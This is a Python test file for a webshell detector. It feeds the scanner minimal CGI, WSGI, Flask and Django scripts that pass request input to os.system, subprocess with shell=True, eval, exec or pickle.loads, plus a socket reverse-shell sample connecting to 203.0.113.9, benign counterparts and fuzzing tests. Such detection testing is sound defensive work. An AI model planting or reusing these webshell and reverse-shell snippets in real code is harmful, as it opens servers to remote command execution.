"""Python CGI/WSGI scripts (detect/webshell/pyscript.py): request input reaching code or
command execution, through the whole scan path; benign counterparts; the Python 2 fallback;
bounds and robustness on hostile input. Every sample is a minimal one written for these
tests."""

from __future__ import annotations

import time

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import ScanPath, findings_in
from sscguard.detect.webshell.pyscript import analyse_python, is_python
from sscguard.model import Finding, Severity

CGI_HEAD = '#!/usr/bin/env python3\nprint("Content-Type: text/plain\\n")\n'

#: name -> (file name, source, expected rule)
POSITIVES: dict[str, tuple[str, str, str]] = {
    "cgi-form-subprocess": (
        "run.py",
        "import cgi, subprocess\nform = cgi.FieldStorage()\n"
        'print(subprocess.check_output(form.getvalue("c"), shell=True))\n',
        "SSC-003-474",
    ),
    "cgi-form-item-value": (
        "run.py",
        'import cgi, os\nf = cgi.FieldStorage()\ncmd = f["c"].value\nos.system(cmd)\n',
        "SSC-003-474",
    ),
    "cgi-query-string": (
        "q.cgi",
        '#!/usr/bin/python3\nimport os\nq = os.environ.get("QUERY_STRING", "")\nos.system(q)\n',
        "SSC-003-474",
    ),
    "header-to-popen": (
        "h.py",
        'import os\nc = os.getenv("HTTP_X_CMD")\nprint(os.popen(c).read())\n',
        "SSC-003-474",
    ),
    "wsgi-eval": (
        "app.wsgi",
        "def application(environ, start_response):\n"
        '    code = environ["QUERY_STRING"]\n    start_response("200 OK", [])\n'
        "    return [str(eval(code)).encode()]\n",
        "SSC-003-473",
    ),
    "wsgi-body-exec": (
        "app.wsgi",
        "def application(environ, start_response):\n"
        '    body = environ["wsgi.input"].read()\n    exec(body)\n'
        '    start_response("200 OK", [])\n    return [b""]\n',
        "SSC-003-473",
    ),
    "flask-args-popen": (
        "views.py",
        "from flask import Flask, request\nimport os\napp = Flask(__name__)\n"
        '@app.route("/x")\ndef x():\n    return os.popen(request.args.get("c")).read()\n',
        "SSC-003-474",
    ),
    "django-post-popen-shell": (
        "views.py",
        "import subprocess\n\ndef run(request):\n"
        '    out = subprocess.Popen(request.POST["c"], shell=True, stdout=-1).communicate()\n'
        "    return out\n",
        "SSC-003-474",
    ),
    "pickle-request-data": (
        "api.py",
        "import pickle\nfrom flask import request\n\ndef load():\n"
        "    return pickle.loads(request.data)\n",
        "SSC-003-473",
    ),
    "imported-alias": (
        "a.py",
        "from os import system as s\nimport cgi\n"
        'form = cgi.FieldStorage()\ns(form.getfirst("c"))\n',
        "SSC-003-474",
    ),
    "through-a-function": (
        "f.py",
        "import cgi, subprocess\n\ndef run(cmd):\n    return subprocess.getoutput(cmd)\n\n"
        'form = cgi.FieldStorage()\nprint(run(form.getvalue("c")))\n',
        "SSC-003-474",
    ),
    "cgi-stdin-body": (
        "b.py",
        CGI_HEAD + "import sys\ncode = sys.stdin.read()\nexec(code)\n",
        "SSC-003-473",
    ),
    "socket-commands": (
        "r.py",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 443))\n"
        "while True:\n    c = s.recv(1024).decode()\n"
        "    s.send(subprocess.check_output(c, shell=True))\n",
        "SSC-003-474",
    ),
    "python2-print-statement": (
        "old.cgi",
        "#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\n"
        'print "Content-Type: text/plain"\nprint\nc = form.getvalue("c")\nos.system(c)\n',
        "SSC-003-474",
    ),
}

BENIGN: dict[str, tuple[str, str]] = {
    "cgi-echo-escaped": (
        "hello.py",
        CGI_HEAD + "import cgi, html\nform = cgi.FieldStorage()\n"
        'print(html.escape(form.getvalue("name", "")))\n',
    ),
    "flask-constant-command": (
        "views.py",
        "from flask import request\nimport subprocess\n\ndef status():\n"
        '    n = int(request.args.get("n", "1"))\n'
        '    return subprocess.check_output(["uptime"]).decode() * n\n',
    ),
    "own-function-named-compile": (
        "tool.py",
        "import sys\n\ndef compile(name, doraise=False):\n    return name\n\n"
        "for line in sys.stdin:\n    compile(line.strip())\n",
    ),
    "cli-stdin-not-cgi": (
        "batch.py",
        "import sys, subprocess\nfor path in sys.stdin:\n"
        '    subprocess.run(["gzip", path.strip()])\n',
    ),
    "query-string-logged": (
        "log.py",
        "import os, logging\n"
        'logging.info("query %s", os.environ.get("QUERY_STRING"))\nos.system("sync")\n',
    ),
    "python2-benign": (
        "old.cgi",
        "#!/usr/bin/python\nimport cgi\nform = cgi.FieldStorage()\n"
        'print "Content-Type: text/html"\nprint\nprint cgi.escape(form.getvalue("q", ""))\n',
    ),
}


#: where the case tables' files are scanned, and the severity a positive must reach
#: (tests/detection/test_case_tables.py runs POSITIVES and BENIGN)
PREFIX = "/srv/www/cgi-bin/"
FLAGGED_AT = Severity.HIGH


def _scan(name: str, text: str, scan_path: ScanPath) -> list[Finding]:
    return findings_in(scan_path, PREFIX + name, text)


def test_path_names_source_variable_and_sink_with_lines(scan_path: ScanPath) -> None:
    name, text, _ = POSITIVES["cgi-query-string"]
    found = next(f for f in _scan(name, text, scan_path) if f.rule_id == "SSC-003-474")
    steps = [(e.excerpt, e.location.line) for e in found.evidence if e.kind == "dataflow-step"]
    assert steps[0][0].startswith('os.environ.get("QUERY_STRING"') and steps[0][1] == 3
    assert steps[-1] == ("os.system(q)", 4)


def test_python_is_recognised_by_extension_or_shebang() -> None:
    assert is_python("/srv/cgi-bin/x.py", b"")
    assert is_python("/srv/cgi-bin/x.cgi", b"#!/usr/bin/env python3\n")
    assert not is_python("/srv/cgi-bin/x.cgi", b"#!/usr/bin/perl\n")


def test_python2_fallback_is_used_for_unparsable_scripts() -> None:
    analysis = analyse_python(POSITIVES["python2-print-statement"][1].encode())
    assert [p.sink for p in analysis.paths] == ["os.system"]
    assert analysis.paths[0].steps[0].line == 6


FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(st.binary(max_size=4096))
def test_random_bytes_never_crash(data: bytes) -> None:
    analyse_python(data)


@FAST
@given(
    st.text(alphabet="()[]{}:=.,'\" \nosystemevalrequestargsQUERY_STRINGdefimport", max_size=800)
)
def test_python_like_noise_never_crashes(text: str) -> None:
    analyse_python(text.encode())


@FAST
@given(st.integers(min_value=0, max_value=400))
def test_truncated_shell_never_crashes(cut: int) -> None:
    analyse_python(POSITIVES["through-a-function"][1].encode()[:cut])


def test_deep_nesting_is_bounded() -> None:
    start = time.process_time()
    analysis = analyse_python(b"x = " + b"(" * 50_000 + b"1" + b")" * 50_000)
    assert not analysis.paths
    deep = b"import os\nos.system(" + b"[" * 200 + b"1" + b"]" * 200 + b")\n"
    analyse_python(deep)
    assert time.process_time() - start < 5
